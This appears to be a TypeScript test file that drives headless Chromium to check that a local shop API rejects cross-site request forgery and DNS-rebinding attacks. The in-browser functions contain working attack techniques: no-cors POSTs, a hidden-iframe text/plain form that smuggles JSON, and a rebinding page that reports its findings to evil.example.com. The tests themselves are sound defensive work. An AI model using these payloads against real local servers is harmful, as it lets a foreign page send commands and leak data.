// What a foreign web page can do to a server on this machine, tried in a real browser: Chromium, if it is installed.
import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { getRequestListener } from '@hono/node-server'
import { Hono } from 'hono'
import { expect, onTestFinished, test } from 'vitest'
import { skippedBecause } from '../../../scripts/skips.ts'
import { httpApi } from '../src/index.ts'
import { runningShop } from './shop.ts'

const browser = ['chromium', 'google-chrome'].find((name) => {
  try {
    execFileSync(name, ['--version'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
})
const missing = browser ? undefined : 'there is no chromium on this machine'

test.skipIf(missing)(
  `a page of another site reaches a server but cannot read or change anything${skippedBecause(missing)}`,
  async () => {
    const victim = shopThatIsWatched()
    const port = await listening(victim.server, 0)
    const rebound = shopThatIsWatched()
    const report = Promise.withResolvers<Record<string, unknown>>()

    // It answers as evil.example.com until the page has loaded; then the name points to the shop.
    const bait = createServer((_, response) => {
      response.setHeader('Connection', 'close')
      response.end(page(`(${afterRebinding})(${reportPort})`), () => {
        bait.close(() => void listening(rebound.server, reboundPort))
        bait.closeAllConnections()
      })
    })
    const reboundPort = await listening(bait, 0)
    const evil = createServer(async (request, response) => {
      response.setHeader('Access-Control-Allow-Origin', '*')
      if (request.method !== 'POST') {
        response.setHeader('Content-Type', 'text/html')
        return response.end(page(`(${fromElsewhere})(${port}, ${reboundPort})`))
      }
      const chunks = await Array.fromAsync(request as AsyncIterable<Buffer>)
      response.end()
      report.resolve(JSON.parse(Buffer.concat(chunks).toString()))
    })
    const reportPort = await listening(evil, 0)

    browse(`http://evil.example.com:${reportPort}/`)

    // After rebinding, the page has the same origin as its target, and the browser shows it every answer.
    expect(await report.promise).toEqual({
      read: 'urn:indelible:error:host_not_allowed',
      pause: 'urn:indelible:error:host_not_allowed',
      command: 'urn:indelible:error:host_not_allowed',
    })
    await expect
      .poll(() => [...victim.seen].sort(), { timeout: 20_000 })
      .toEqual([
        // The browser sends a preflight for requests that need one.
        'OPTIONS /commands/item/tea/ReceiveStock 405',
        'POST /commands/item/form/TakeNote 403',
        'POST /commands/item/plain/TakeNote 403',
        'POST /consumers/notes/pause 403',
        'POST /projections/notes/rebuild 403',
      ])
    for (const { running } of [victim, rebound]) {
      expect((await running.store.head()).position).toBe(0)
      expect((await running.projectionViews()).map(({ state }) => state)).not.toContain('paused')
    }
  },
)

test.skipIf(missing)(
  `a page that the server's own app serves may send commands${skippedBecause(missing)}`,
  async () => {
    const { server, seen } = shopThatIsWatched()
    const port = await listening(server, 0)
    browse(`http://localhost:${port}/page`)
    await expect.poll(() => seen, { timeout: 20_000 }).toContain('POST /commands/item/tea/ReceiveStock 200')
  },
)

/** The shop behind HTTP, and its answer to every request. */
function shopThatIsWatched() {
  const running = runningShop()
  const seen: string[] = []
  const app = new Hono().use(async (c, next) => {
    await next()
    seen.push(`${c.req.method} ${c.req.path} ${c.res.status}`)
  })
  app.get('/page', (c) => c.html(page(`(${ofItsOwn})()`))).route('/', httpApi(running))
  return { running, seen, server: createServer(getRequestListener((request) => app.fetch(request))) }
}

async function listening(server: Server, port: number): Promise<number> {
  onTestFinished(() => {
    server.close()
    server.closeAllConnections()
  })
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
  return (server.address() as AddressInfo).port
}

function browse(url: string): void {
  const profile = mkdtempSync(join(tmpdir(), 'indelible-browser-'))
  const flags = [
    '--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-dev-shm-usage',
    '--disable-background-networking --disable-component-update --disable-sync --remote-debugging-port=0',
  ]
  const rules = '--host-resolver-rules=MAP evil.example.com 127.0.0.1'
  const child = spawn(browser!, [...flags.join(' ').split(' '), rules, `--user-data-dir=${profile}`, url], {
    stdio: 'ignore',
  })
  onTestFinished(async () => {
    const ended = new Promise((resolve) => child.once('exit', resolve))
    child.kill('SIGKILL')
    await ended
    rmSync(profile, { recursive: true, force: true, maxRetries: 20 })
  })
}

function page(script: string): string {
  return `<!doctype html><meta charset="utf-8"><title>A page</title><body><script>${script}</script>`
}

// The next three functions run in the browser.

/** Everything that a page may send to another site without a preflight, and one request that needs one. */
function fromElsewhere(port: number, reboundPort: number): void {
  const shop = `http://127.0.0.1:${port}`
  const post = (url: string, init: RequestInit) => fetch(url, { method: 'POST', ...init }).catch(() => {})
  post(`${shop}/consumers/notes/pause`, { mode: 'no-cors' })
  post(`${shop}/commands/item/plain/TakeNote`, { mode: 'no-cors', body: '"from elsewhere"' })
  post(`${shop}/commands/item/tea/ReceiveStock`, {
    headers: { 'content-type': 'application/json' },
    body: '{"quantity":5}',
  })
  post(`http://evil.example.com:${port}/projections/notes/rebuild`, { mode: 'no-cors' })
  const { document } = globalThis as unknown as {
    document: { body: { insertAdjacentHTML(where: string, html: string): void }; forms: { submit(): void }[] }
  }
  document.body.insertAdjacentHTML(
    'beforeend',
    `<iframe name="hidden"></iframe><form method="post" enctype="text/plain" target="hidden" action="${shop}/commands/item/form/TakeNote">
     <input name='{"a' value='":1}'></form><iframe src="http://evil.example.com:${reboundPort}/"></iframe>`,
  )
  document.forms[0]!.submit()
}

/** Asks its own server until the shop answers. */
async function afterRebinding(reportPort: number): Promise<void> {
  const typeOf = async (path: string, init?: RequestInit) => {
    for (;;) {
      try {
        return ((await (await fetch(path, init)).json()) as { type: string }).type
      } catch {
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
    }
  }
  const report = {
    read: await typeOf('/health'),
    pause: await typeOf('/consumers/notes/pause', { method: 'POST' }),
    command: await typeOf('/commands/item/tea/ReceiveStock', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"quantity":5}',
    }),
  }
  await fetch(`http://evil.example.com:${reportPort}/`, { method: 'POST', body: JSON.stringify(report) })
}

function ofItsOwn(): void {
  void fetch('/commands/item/tea/ReceiveStock', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"quantity":5}',
  })
}
